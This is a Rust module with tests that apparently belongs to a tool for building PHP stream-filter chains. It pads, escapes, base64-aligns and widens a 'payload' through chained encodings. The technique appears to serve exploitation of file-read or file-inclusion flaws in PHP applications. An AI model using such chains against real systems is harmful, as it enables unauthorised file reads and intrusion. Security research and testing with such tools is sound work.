//! Prelude: pad the file content with garbage, escape it, and align it to a
//! known base64/3 boundary before widening into UCS-4LE code units.

use crate::error::Result;
use crate::pipeline::primitives::{
    push_char, push_char_safely, Pipeline, B64D, B64E, QPE, REMOVE_EQUAL,
};

/// Pad the file content with garbage that survives the round-trip, so later
/// alignment steps never trim part of the real file content.
fn pad(pipeline: &mut Pipeline) {
    const TIMES: usize = 3;
    pipeline.push(B64E);
    for _ in 0..TIMES {
        pipeline.push(B64E).push(REMOVE_EQUAL);
    }
    for _ in 0..TIMES {
        pipeline.push(B64D).push(REMOVE_EQUAL);
    }
    pipeline.push(B64D);
}

/// Escape the payload so that only ASCII-safe bytes remain.
fn escape(pipeline: &mut Pipeline) {
    pipeline.push(QPE);
}

/// Make the base64 payload's size divisible by 3 (so the next base64 pass is
/// 4-aligned).
fn align(pipeline: &mut Pipeline) -> Result<()> {
    pipeline.push(B64E).push(QPE).push(REMOVE_EQUAL);
    push_char(pipeline, b'A')?;
    pipeline.push(QPE).push(REMOVE_EQUAL);
    push_char(pipeline, b'A')?;
    pipeline.push(QPE).push(REMOVE_EQUAL);
    push_char_safely(pipeline, b'A')?;
    push_char_safely(pipeline, b'A')?;
    pipeline.push(B64D);
    Ok(())
}

/// Add trailing garbage, escape the content, double-encode and align it,
/// then widen it into UCS-4LE code units.
pub fn prelude(pipeline: &mut Pipeline) -> Result<()> {
    pad(pipeline);
    escape(pipeline);
    pipeline.push(B64E).push(B64E);
    align(pipeline)?;
    pipeline.push("convert.iconv.437.UCS-4le");
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prelude_ends_with_ucs4le_widen() {
        let mut pipeline = Pipeline::new();
        prelude(&mut pipeline).unwrap();
        let names: Vec<&str> = pipeline.filter_names().collect();
        assert_eq!(names.last(), Some(&"convert.iconv.437.UCS-4le"));
    }

    #[test]
    fn prelude_starts_with_pad_sequence() {
        let mut pipeline = Pipeline::new();
        prelude(&mut pipeline).unwrap();
        let names: Vec<&str> = pipeline.filter_names().collect();
        assert_eq!(names[0], B64E);
        assert_eq!(names[1], B64E);
        assert_eq!(names[2], REMOVE_EQUAL);
    }
}
